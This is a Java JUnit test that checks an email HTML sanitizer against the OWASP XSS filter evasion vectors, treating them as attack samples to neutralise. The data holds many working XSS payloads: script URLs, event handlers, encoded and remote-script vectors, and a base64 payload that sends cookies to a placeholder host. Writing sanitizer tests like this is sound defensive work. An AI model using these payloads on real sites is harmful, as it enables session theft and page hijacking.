package dev.postpurchase.email;

import static org.assertj.core.api.Assertions.assertThat;

import dev.postpurchase.email.internal.EmailStyles;
import dev.postpurchase.email.internal.HtmlSanitizer;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.stream.Stream;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Named;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * The HTML vectors of the OWASP XSS Filter Evasion Cheat Sheet
 * (https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html): each one is live as written
 * (a browser parsing it would build a script, frame, style, event handler or script URL) and inert once sanitised by
 * either policy, the rich text of custom emails and fulfillment instructions and the receipt template.
 *
 * <p>Left out are the sheet's entries that are not live in an HTML5 parser (IE conditional comments, UTF-7 and
 * US-ASCII encodings, SSI and PHP, HTML+TIME, {@code <IMG SRC= onmouseover=...>}, whose handler is the value of
 * {@code src}) and the plain http links of its URL-evasion section, which are not executable. The half-open vectors
 * need markup after them, as the sheet says; they get a paragraph.
 */
class XssFilterEvasionTest {
    private static final List<HtmlSanitizer> POLICIES = List.of(HtmlSanitizer.RICH_TEXT, HtmlSanitizer.TEMPLATE);

    /** Elements that run script, load active content or restyle the page. */
    private static final Set<String> ACTIVE_ELEMENTS = Set.of(
            "script",
            "style",
            "link",
            "meta",
            "base",
            "iframe",
            "frame",
            "frameset",
            "object",
            "embed",
            "applet",
            "param",
            "svg",
            "math",
            "xml",
            "bgsound",
            "form",
            "input",
            "button",
            "isindex",
            "video",
            "audio",
            "source",
            "template");

    /** Attributes whose value is a URL a browser loads or navigates to. */
    private static final Set<String> URL_ATTRIBUTES = Set.of(
            "href",
            "src",
            "action",
            "formaction",
            "background",
            "dynsrc",
            "lowsrc",
            "data",
            "codebase",
            "poster",
            "xlink:href",
            "content",
            "value",
            "code");

    /** IE data binding. */
    private static final Set<String> BINDING_ATTRIBUTES = Set.of("datasrc", "datafld", "dataformatas");

    /** Every attribute a policy may write (stated here independently of the policy's own list). */
    private static final Set<String> POLICY_ATTRIBUTES = Set.of(
            "href target rel src alt width height colspan align role cellpadding cellspacing border style".split(" "));

    private static final String BELOW = "\n<p>below</p>";

    static Stream<Named<String>> cheatSheet() {
        List<String> vectors = new ArrayList<>(List.of(
                // Basic test and polyglot
                "<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>",
                "javascript:/*--></title></style></textarea></script></xmp>\n"
                        + "<svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+alert(42);//'>",
                // Malformed A and IMG tags
                "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
                "<a onmouseover=alert(document.cookie)>xxs link</a>",
                "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
                "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
                "<IMG SRC=# onmouseover=\"alert('xxs')\">",
                "<IMG onmouseover=\"alert('xxs')\">",
                "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
                "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105"
                        + "&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039"
                        + "&#0000088&#0000083&#0000083&#0000039&#0000041\">",
                // Character references, with and without semicolons
                "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;"
                        + "&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
                "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112"
                        + "&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088"
                        + "&#0000083&#0000083&#0000039&#0000041>",
                "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28"
                        + "&#x27&#x58&#x53&#x53&#x27&#x29>",
                // Embedded tab, newline, carriage return, null, leading spaces and meta characters
                "<IMG SRC=\"jav\tascript:alert('XSS');\">",
                "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
                "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
                "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
                "<IMG SRC=java\0script:alert(\"XSS\")>",
                "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
                // Non-alpha-non-digit, extraneous brackets, no closing tags, protocol resolution
                "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
                "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
                "<SCRIPT/SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
                "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
                "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
                "<SCRIPT SRC=//xss.rocks/.j>",
                // Half open, double open angle brackets
                "<IMG SRC=\"`<javascript:alert>`('XSS')\"" + BELOW,
                "<iframe src=http://xss.rocks/scriptlet.html <" + BELOW,
                // Escaping out of a script or a title
                "</script><script>alert('XSS');</script>",
                "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
                // Other tags with script URLs
                "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
                "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
                "<IMG DYNSRC=\"javascript:alert('XSS')\">",
                "<IMG LOWSRC=\"javascript:alert('XSS')\">",
                "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
                "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
                "<IMG SRC=\"livescript:[code]\">",
                "<svg/onload=alert('XSS')>",
                "<BODY ONLOAD=alert('XSS')>",
                "<BGSOUND SRC=\"javascript:alert('XSS');\">",
                "<BR SIZE=\"&{alert('XSS')}\">",
                // Style sheets and style attributes
                "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
                "<LINK REL=\"stylesheet\" HREF=\"http://xss.rocks/xss.css\">",
                "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
                "<META HTTP-EQUIV=\"Link\" Content=\"<http://xss.rocks/xss.css>; REL=stylesheet\">",
                "<STYLE>BODY{-moz-binding:url(\"http://xss.rocks/xssmoz.xml#xss\")}</STYLE>",
                "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(\"XSS\")';</STYLE>",
                "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
                "exp/*<A STYLE='no\\xss:noxss(\"*//*\");\nxss:ex/*XSS*//*/*/pression(alert(\"XSS\"))'>",
                "<STYLE TYPE=\"text/javascript\">alert('XSS');</STYLE>",
                "<STYLE>.XSS{background-image:url(\"javascript:alert('XSS')\");}</STYLE><A CLASS=XSS></A>",
                "<STYLE type=\"text/css\">BODY{background:url(\"javascript:alert('XSS')\")}</STYLE>",
                "<XSS STYLE=\"xss:expression(alert('XSS'))\">",
                "<XSS STYLE=\"behavior: url(xss.htc);\">",
                // META refresh and cookies
                "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
                "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,"
                        + "PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
                "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0; URL=http://;URL=javascript:alert('XSS');\">",
                "<META HTTP-EQUIV=\"Set-Cookie\" Content=\"USERID=<SCRIPT>alert('XSS')</SCRIPT>\">",
                // Frames, tables, divs
                "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
                "<IFRAME SRC=# onmouseover=\"alert(document.cookie)\"></IFRAME>",
                "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
                "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
                "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
                "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
                "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072"
                        + "\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027"
                        + "\\0029'\\0029\">",
                "<DIV STYLE=\"background-image: url(\u0001javascript:alert('XSS'))\">",
                "<DIV STYLE=\"width: expression(alert('XSS'));\">",
                // BASE, OBJECT, EMBED, XML data islands
                "<BASE HREF=\"javascript:alert('XSS');//\">",
                "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
                "<EMBED SRC=\"http://ha.ckers.org/xss.swf\" AllowScriptAccess=\"always\"></EMBED>",
                "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4"
                        + "bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8x"
                        + "OTk5L3hsaW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAwIiBpZD0i"
                        + "eHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlhTUyIpOzwvc2NyaXB0Pjwvc3ZnPg==\""
                        + " type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
                "<XML ID=\"xss\"><I><B><IMG SRC=\"javas<!-- -->cript:alert('XSS')\"></B></I></XML>\n"
                        + "<SPAN DATASRC=\"#xss\" DATAFLD=\"B\" DATAFORMATAS=\"HTML\"></SPAN>",
                "<XML SRC=\"xsstest.xml\" ID=I></XML>\n<SPAN DATASRC=#I DATAFLD=C DATAFORMATAS=HTML></SPAN>",
                "<SCRIPT SRC=\"http://xss.rocks/xss.jpg\"></SCRIPT>",
                "<HEAD><META HTTP-EQUIV=\"CONTENT-TYPE\" CONTENT=\"text/html; charset=UTF-7\"> </HEAD>"
                        + "+ADw-SCRIPT+AD4-alert('XSS');+ADw-/SCRIPT+AD4-",
                // Quote encapsulation
                "<SCRIPT a=\">\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
                "<SCRIPT =\">\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
                "<SCRIPT a=\">\" '' SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
                "<SCRIPT \"a='>'\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
                "<SCRIPT a=`>` SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
                "<SCRIPT a=\">'>\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
                "<SCRIPT>document.write(\"<SCRI\");</SCRIPT>PT SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
                // URL evasion: the executable one
                "<A HREF=\"javascript:document.location='http://www.google.com/'\">XSS</A>",
                "<img onload=\"eval(atob('ZG9jdW1lbnQubG9jYXRpb249Imh0dHA6Ly9saXN0ZXJuSVAvIitkb2N1bWVudC5jb29raWU='))\">",
                // WAF bypass strings
                "<Img src = x onerror = \"javascript: window.onerror = alert; throw XSS\">",
                "<Video> <source onerror = \"javascript: alert (XSS)\">",
                "<applet code=\"javascript:confirm(document.cookie);\">",
                "<isindex x=\"javascript:\" onmouseover=\"alert(XSS)\">",
                "\"></SCRIPT>\u201d>\u2019><SCRIPT>alert(String.fromCharCode(88,83,83))</SCRIPT>",
                "\"><img src=\"x:x\" onerror=\"alert(XSS)\">",
                "\"><iframe src=\"javascript:alert(XSS)\">",
                "<object data=\"javascript:alert(XSS)\">",
                "<isindex type=image src=1 onerror=alert(XSS)>",
                "<img src=x:alert(alt) onerror=eval(src) alt=0>",
                "<img  src=\"x:gif\" onerror=\"window['al\\u0065rt'](0)\"></img>",
                "<iframe/src=\"data:text/html,<svg onload=alert(1)>\">",
                "<meta content=\"&NewLine; 1 &NewLine;; JAVASCRIPT&colon; alert(1)\" http-equiv=\"refresh\"/>",
                "<svg><script xlink:href=data&colon;,window.open('https://www.google.com/')></script",
                "<meta http-equiv=\"refresh\" content=\"0;url=javascript:confirm(1)\">",
                "<iframe src=javascript&colon;alert&lpar;document&period;location&rpar;>",
                "<form><a href=\"javascript:\\u0061lert(1)\">X",
                "</script><img/*%00/src=\"worksinchrome&colon;prompt(1)\"/%00*/onerror='eval(src)'>",
                "<style>//*{x:expression(alert(/xss/))}//<style></style>",
                "<img src=\"/\" =_=\" title=\"onerror='prompt(1)'\">",
                "<a aa aaa aaaa aaaaa aaaaaa aaaaaaa aaaaaaaa aaaaaaaaa aaaaaaaaaa href=j&#97v&#97script:&#97lert(1)>"
                        + "ClickMe",
                "<script x> alert(1) </script 1=2",
                "<form><button formaction=javascript&colon;alert(1)>CLICKME",
                "<input/onmouseover=\"javaSCRIPT&colon;confirm&lpar;1&rpar;\"" + BELOW,
                "<iframe src=\"data:text/html,%3C%73%63%72%69%70%74%3E%61%6C%65%72%74%28%31%29%3C%2F%73%63%72%69%70"
                        + "%74%3E\"></iframe>",
                "<OBJECT CLASSID=\"clsid:333C7BC4-460F-11D0-BC04-0080C7055A83\"><PARAM NAME=\"DataURL\""
                        + " VALUE=\"javascript:alert(1)\"></OBJECT>"));
        // The sheet's script URL spellings, also on the tags the policies keep: links and images
        for (String url : List.of(
                "javascript:alert('XSS')",
                "JaVaScRiPt:alert('XSS')",
                "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert('XSS')",
                "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert('XSS')",
                "jav\tascript:alert('XSS')",
                "jav&#x09;ascript:alert('XSS')",
                "jav&#x0A;ascript:alert('XSS')",
                "jav&#x0D;ascript:alert('XSS')",
                "java\0script:alert('XSS')",
                " &#14;  javascript:alert('XSS')",
                "javascript&colon;alert(1)",
                "vbscript:msgbox(\"XSS\")",
                "livescript:[code]",
                "data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K")) {
            vectors.add("<a href=\"" + url + "\">link</a>");
            vectors.add("<img src=\"" + url + "\">");
        }
        return vectors.stream().map(v -> Named.of(printable(v), v));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("cheatSheet")
    void aCheatSheetVectorIsLiveAsWrittenAndInertOnceSanitised(String vector) {
        assertThat(activeContent(vector)).as("live as written").isNotEmpty();

        for (HtmlSanitizer policy : POLICIES) {
            String out = policy.sanitize(vector);

            assertThat(activeContent(out)).as("active content left in %s", out).isEmpty();
            assertOnlyPolicyMarkup(policy, out);
        }
    }

    @ParameterizedTest(name = "{0}")
    @ValueSource(
            strings = {
                "onAbort",
                "onActivate",
                "onAfterPrint",
                "onBeforeCopy",
                "onBeforeUnload",
                "onBegin",
                "onBlur",
                "onBounce",
                "onChange",
                "onClick",
                "onContextMenu",
                "onCopy",
                "onDblClick",
                "onDrag",
                "onDrop",
                "onError",
                "onFinish",
                "onFocus",
                "onFocusIn",
                "onHashChange",
                "onInput",
                "onKeyDown",
                "onLoad",
                "onMessage",
                "onMouseDown",
                "onMouseEnter",
                "onMouseOver",
                "onOnline",
                "onPaste",
                "onPopState",
                "onResize",
                "onScroll",
                "onSelectStart",
                "onStart",
                "onStorage",
                "onSubmit",
                "onUnload",
                "onURLFlip"
            })
    void anEventHandlerOfTheCheatSheetIsRemovedFromEveryKeptTag(String handler) {
        String vector = "<p " + handler + "=\"alert(1)\"><a href=\"https://shop.example/\" " + handler
                + "=alert(1)>link</a> <b " + handler + "='alert(1)'>bold</b></p><table " + handler
                + "=alert(1)><tr><td " + handler + "=alert(1)><img src=\"https://cdn.example/x.png\" " + handler
                + "=\"alert(1)\"></td></tr></table>";
        assertThat(activeContent(vector)).as("live as written").isNotEmpty();

        for (HtmlSanitizer policy : POLICIES) {
            String out = policy.sanitize(vector);

            assertThat(activeContent(out)).as("active content left in %s", out).isEmpty();
            assertOnlyPolicyMarkup(policy, out);
            assertThat(out).contains("<p", "<b", ">link</a>", ">bold</b>");
        }
    }

    /** What in {@code html}, parsed as a browser would, can run script, load active content or restyle the page. */
    private static List<String> activeContent(String html) {
        List<String> found = new ArrayList<>();
        for (Element element : Jsoup.parse(html).getAllElements()) {
            if (ACTIVE_ELEMENTS.contains(element.normalName())) {
                found.add("<" + element.normalName() + ">");
            }
            for (Attribute attribute : element.attributes()) {
                String name = attribute.getKey().toLowerCase(Locale.ROOT);
                String value = attribute.getValue();
                if (name.startsWith("on")
                        || BINDING_ATTRIBUTES.contains(name)
                        || (name.equals("style") && !EmailStyles.TAGS.containsValue(value))
                        || value.contains("&{")
                        || (URL_ATTRIBUTES.contains(name) && isScriptUrl(value))) {
                    found.add(element.normalName() + "[" + name + "]");
                }
            }
        }
        return found;
    }

    /** Whether a browser would take {@code url} as script: it ignores whitespace and control characters in it. */
    private static boolean isScriptUrl(String url) {
        StringBuilder compact = new StringBuilder();
        url.codePoints()
                .filter(c -> !Character.isWhitespace(c) && !Character.isISOControl(c) && c != 0xFFFD)
                .forEach(compact::appendCodePoint);
        String u = compact.toString().toLowerCase(Locale.ROOT);
        return u.contains("javascript:")
                || u.contains("vbscript:")
                || u.contains("livescript:")
                || u.startsWith("data:");
    }

    private static void assertOnlyPolicyMarkup(HtmlSanitizer policy, String out) {
        Element body = Jsoup.parseBodyFragment(out).body();
        for (Element element : body.getAllElements()) {
            if (element == body) {
                continue;
            }
            assertThat(policy.allowedTags()).as(out).contains(element.normalName());
            assertThat(element.attributes().asList())
                    .extracting(Attribute::getKey)
                    .as(out)
                    .isSubsetOf(POLICY_ATTRIBUTES);
            if (element.hasAttr("href")) {
                assertThat(element.attr("href")).as(out).matches("^(https?://|mailto:).*");
            }
            if (element.hasAttr("src")) {
                assertThat(element.attr("src")).as(out).startsWith("https://");
            }
        }
    }

    private static String printable(String vector) {
        StringBuilder out = new StringBuilder();
        vector.codePoints().forEach(c -> {
            if (c == '\n') {
                out.append("\\n");
            } else if (Character.isISOControl(c)) {
                out.append(String.format("\\u%04x", c));
            } else {
                out.appendCodePoint(c);
            }
        });
        return out.toString();
    }
}
